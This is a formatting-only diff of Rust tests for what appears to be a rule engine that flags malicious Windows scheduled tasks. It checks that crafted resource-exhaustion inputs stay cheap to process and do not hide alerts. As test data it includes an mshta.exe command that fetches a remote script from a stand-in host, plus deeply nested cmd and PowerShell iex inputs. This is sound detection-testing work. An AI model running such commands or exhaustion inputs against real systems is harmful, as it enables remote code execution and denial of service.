@@ -191,7 +191,11 @@ fn bombs() -> Vec<Bomb> {
         ),
         bomb("2,000 commands in a line", cmd(&"powershell -c x & ".repeat(2_000)), "started processes"),
         bomb("cmd in cmd, 5,000 deep", cmd(&"cmd /c ".repeat(5_000)), "nested deeper than 4"),
-        bomb("a megabyte in one element", powershell(&"Write-Host x; ".repeat(75_000)), "bytes that were read"),
+        bomb(
+            "a megabyte in one element",
+            powershell(&"Write-Host x; ".repeat(75_000)),
+            "bytes that were read",
+        ),
         bomb("carets and quotes", cmd(&"^\"^p\"o\"^w^e^r^s^h^e^l^l".repeat(2_500)), ""),
         bomb(
             "32 actions with a gzip bomb each",
@@ -206,10 +210,18 @@ fn bombs() -> Vec<Bomb> {
         bomb("a loop that replaces", looped(3_000, "z", "!x:a=b!"), ""),
         bomb("a loop that takes one character", looped(30_000, "z", "!x:~%i,1!"), ""),
         bomb("a loop that takes from the end", looped(30_000, "z", "!x:~-%i!"), ""),
-        bomb("a loop in a loop", looped(1_000, "z", "!x:*ab=!&for /L %j in (1,1,512) do set y=%j!x:*ab=!"), ""),
+        bomb(
+            "a loop in a loop",
+            looped(1_000, "z", "!x:*ab=!&for /L %j in (1,1,512) do set y=%j!x:*ab=!"),
+            "",
+        ),
         bomb("a loop that makes its value longer", looped(10, "x", "!x!!x!"), ""),
         bomb("call in a loop", looped(3_000, "z", "1&call set z=%x:a=b%"), ""),
-        bomb("loops over words", cmd(&format!("\"for %i in ({}) do set x=%i!x:*b=!\"", "a ".repeat(15_000))), ""),
+        bomb(
+            "loops over words",
+            cmd(&format!("\"for %i in ({}) do set x=%i!x:*b=!\"", "a ".repeat(15_000))),
+            "",
+        ),
         bomb(
             "16 actions with a loop each",
             format!("<Task><Actions>{}</Actions></Task>", looped_action(1_500).repeat(16)),
@@ -246,7 +258,8 @@ fn looped(length: usize, name: &str, word: &str) -> String {
 }
 
 fn looped_action(length: usize) -> String {
-    let line = format!("/v:on /c \"set x={}b&for /L %i in (1,1,512) do set z=%i!x:*ab=!\"", "a".repeat(length));
+    let line =
+        format!("/v:on /c \"set x={}b&for /L %i in (1,1,512) do set z=%i!x:*ab=!\"", "a".repeat(length));
     expensive::exec("cmd.exe", &line)
 }
 
@@ -276,7 +289,8 @@ fn what_a_bomb_costs_is_bounded_and_noted() {
 fn the_alert_of_a_plain_action_stands_beside_a_bomb() {
     let mut trial = Trial::new();
     let plain = expensive::exec(PLAIN.0, PLAIN.1);
-    let expected = rules(&trial.run("plain", &expensive::record(&format!("<Task><Actions>{plain}</Actions></Task>"))));
+    let expected =
+        rules(&trial.run("plain", &expensive::record(&format!("<Task><Actions>{plain}</Actions></Task>"))));
     assert!(expected.len() >= 3, "{expected:?}");
     let mut stands = |name: &str, content: String| {
         let found = rules(&trial.run(name, &expensive::record(&content)));
@@ -290,15 +304,19 @@ fn the_alert_of_a_plain_action_stands_beside_a_bomb() {
         if content.len() < 60_000 {
             stands(&format!("plain before: {name}"), format!("{before}{plain}<Exec>{behind}"));
         }
-        let Some((before, behind)) = content.rsplit_once("</Exec>").filter(|_| content.len() < 60_000) else { continue };
+        let Some((before, behind)) = content.rsplit_once("</Exec>").filter(|_| content.len() < 60_000) else {
+            continue;
+        };
         stands(&format!("plain behind: {name}"), format!("{before}</Exec>{plain}{behind}"));
     }
     for part in PARTS.into_iter().filter(|part| *part != Part::Actions) {
         for word in WORDS.iter().step_by(7) {
             let recipe = Recipe::of_word(part, word, LOGGED);
-            for (place, before, behind) in
-                [("before", &*plain, ""), ("behind", "", &*plain), ("between", &*recipe.definition("", ""), &*plain)]
-            {
+            for (place, before, behind) in [
+                ("before", &*plain, ""),
+                ("behind", "", &*plain),
+                ("between", &*recipe.definition("", ""), &*plain),
+            ] {
                 // A definition in the list of actions stands for its own actions.
                 stands(&format!("plain {place} {part:?} of {word}"), recipe.definition(before, behind));
             }
@@ -311,15 +329,20 @@ fn the_alert_of_a_plain_action_stands_beside_a_bomb() {
 fn every_action_of_a_logged_definition_is_judged() {
     let mut trial = Trial::new();
     let plain = expensive::exec("mshta.exe", "http://x.example/a");
-    let expected = rules(&trial.run("plain", &expensive::record(&format!("<Task><Actions>{plain}</Actions></Task>"))));
+    let expected =
+        rules(&trial.run("plain", &expensive::record(&format!("<Task><Actions>{plain}</Actions></Task>"))));
     assert!(!expected.is_empty());
-    for (command, arguments) in [("a", ""), ("cmd", "/c a&b&c&d"), ("cmd", "/c cmd /c cmd /c a"), ("powershell", "iex(a)")] {
+    for (command, arguments) in
+        [("a", ""), ("cmd", "/c a&b&c&d"), ("cmd", "/c cmd /c cmd /c a"), ("powershell", "iex(a)")]
+    {
         let other = expensive::exec(command, arguments);
         let count = 63.min((LOGGED - plain.len() - 40) / other.len());
         for before in [0, 1, count / 2, count - 1, count] {
             let actions = format!("{}{plain}{}", other.repeat(before), other.repeat(count - before));
             let name = format!("{command} {arguments}, {before} of {count} before");
-            let found = rules(&trial.run(&name, &expensive::record(&format!("<Task><Actions>{actions}</Actions></Task>"))));
+            let found = rules(
+                &trial.run(&name, &expensive::record(&format!("<Task><Actions>{actions}</Actions></Task>"))),
+            );
             if !expected.is_subset(&found) {
                 trial.failures.push(format!("{name}: {found:?}"));
             }
@@ -392,7 +415,8 @@ fn members_of_any_kind_cost_no_more() {
 fn no_record_of_the_tables_and_seeds_costs_more() {
     let mut trial = Trial::new();
     let root = project::root();
-    let mut files: Vec<_> = ["benign.ndjson", "evasion.ndjson"].map(|name| root.join("tests/testdata").join(name)).into();
+    let mut files: Vec<_> =
+        ["benign.ndjson", "evasion.ndjson"].map(|name| root.join("tests/testdata").join(name)).into();
     for rule in std::fs::read_dir(root.join("plugin/rules")).unwrap() {
         files.push(rule.unwrap().path().join("cases.ndjson"));
     }
@@ -409,7 +433,8 @@ fn no_record_of_the_tables_and_seeds_costs_more() {
     assert!(count > 500, "{count} records in the tables");
     for target in ["record", "wasm"] {
         for (number, seed) in seeds::of(target).unwrap().iter().enumerate() {
-            for record in seed.split(|byte| *byte == 0).filter_map(|record| std::str::from_utf8(record).ok()) {
+            for record in seed.split(|byte| *byte == 0).filter_map(|record| std::str::from_utf8(record).ok())
+            {
                 trial.run(&format!("seed {number} of {target}"), record);
             }
         }
